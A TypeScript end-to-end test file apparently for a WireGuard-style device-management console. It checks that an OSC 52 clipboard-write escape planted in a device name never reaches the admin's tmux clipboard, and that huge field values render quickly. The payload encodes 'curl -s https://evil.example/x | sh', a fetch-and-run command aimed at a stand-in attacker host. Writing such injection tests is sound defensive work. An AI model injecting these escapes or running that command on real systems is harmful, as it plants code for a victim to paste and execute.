// An unprivileged user renames their own device to an OSC 52 clipboard write (0.7.36 lets them:
// allow_unprivileged_device_management is on by default). The admin's console, in tmux with
// clipboard integration on, lists the device and opens its detail: the tmux paste buffer must be
// unchanged, and the detail shows the payload as visible escapes.
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {generateKeyPairSync} from 'node:crypto';
import {BIN, hasBinary, hasTmux, startSandboxProcess, Terminal, type SandboxProcess} from './harness.js';

const enabled = hasTmux() && hasBinary();
let sandbox: SandboxProcess;
// Every terminal a test started, killed after the file (a test that fails leaves its own running).
const terms: Terminal[] = [];

const EVIL = Buffer.from('curl -s https://evil.example/x | sh').toString('base64');

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
async function call(token: string, method: string, path: string, body?: unknown): Promise<any> {
  const res = await fetch(`${sandbox.url}${path}`, {
    method,
    headers: {authorization: `Bearer ${token}`, 'content-type': 'application/json'},
    ...(body === undefined ? {} : {body: JSON.stringify(body)}),
  });
  const text = await res.text();
  if (!res.ok) throw new Error(`${method} ${path} → ${res.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_000}, () => {
  beforeAll(async () => {
    sandbox = await startSandboxProcess(['--seed', 'empty', '--stats-interval', '0']);
  });
  afterAll(async () => {
    for (const t of terms.splice(0)) t.kill();
    await sandbox?.stop();
  });

  it('an OSC 52 payload in a device description never reaches the clipboard', async () => {
    const users = (await call(sandbox.adminToken, 'GET', '/v0/users')).data as Array<{id: string; email: string}>;
    const owner = users.find((u) => u.email === 'user@sandbox.test')!;
    const pub = generateKeyPairSync('x25519', {publicKeyEncoding: {type: 'spki', format: 'der'}, privateKeyEncoding: {type: 'pkcs8', format: 'der'}})
      .publicKey.subarray(12)
      .toString('base64');
    const device = (await call(sandbox.adminToken, 'POST', '/v0/devices', {device: {user_id: owner.id, public_key: pub, name: 'laptop'}})).data;
    // The unprivileged owner sets the description through /v0 with their own token.
    await call(sandbox.unprivilegedToken, 'PATCH', `/v0/devices/${device.id}`, {
      device: {name: `laptop\x1b]52;c;${EVIL}\x07`, description: `work laptop \x1b]52;c;${EVIL}\x07 .`},
    });

    const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
    terms.push(t);
    t.tmux('set-option', '-g', 'set-clipboard', 'on');
    t.tmux('set-buffer', 'SAFE-BUFFER');
    t.run(`node ${BIN} --refresh 0`);
    await t.waitFor(/1\/1 devices/);
    t.keys('Enter');
    const screen = await t.waitFor('Description');
    expect(t.tmux('show-buffer').trim()).toBe('SAFE-BUFFER');
    expect(screen).toContain(`work laptop \\e]52;c;${EVIL.slice(0, 20)}`);
    t.keys('q');
    await t.waitFor('SHELL-READY$');
    expect(t.tmux('show-buffer').trim()).toBe('SAFE-BUFFER');
  });

  it('huge values draw like any other: a device with 10,000 allowed IPs, a name of one letter and 100,000 combining marks', async () => {
    const users = (await call(sandbox.adminToken, 'GET', '/v0/users')).data as Array<{id: string; email: string}>;
    const owner = users.find((u) => u.email === 'user@sandbox.test')!;
    const key = () =>
      generateKeyPairSync('x25519', {publicKeyEncoding: {type: 'spki', format: 'der'}, privateKeyEncoding: {type: 'pkcs8', format: 'der'}})
        .publicKey.subarray(12)
        .toString('base64');
    const allowed = Array.from({length: 10_000}, (_, i) => `10.${(i >> 8) & 255}.${i & 255}.0/24`);
    await call(sandbox.adminToken, 'POST', '/v0/devices', {
      device: {user_id: owner.id, public_key: key(), name: '0-many-routes', use_default_allowed_ips: false, allowed_ips: allowed},
    });
    await call(sandbox.adminToken, 'POST', '/v0/devices', {device: {user_id: owner.id, public_key: key(), name: `1${'\u0301'.repeat(100_000)}`}});
    const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
    terms.push(t);
    t.run(`node ${BIN} --refresh 0`);
    // The marks beyond twelve are one token that counts them.
    await t.waitFor('+99988 marks');
    t.keys('/');
    t.type('0-many');
    await t.waitFor(/1\/1 of \d+ devices/);
    t.keys('Enter', 'Enter');
    // Before: 47 s to draw, 92 s to close.
    await t.waitFor(/Allowed IPs\s+10\.0\.0\.0\/24, 10\.0\.1\.0\/24/, 5000);
    t.keys('j', 'j');
    await t.waitFor(/more lines/, 5000);
    t.keys('Escape');
    await t.waitFor(/1\/1 of \d+ devices/, 5000);
    t.keys('q');
    await t.waitFor('SHELL-READY$', 5000);
  });
});
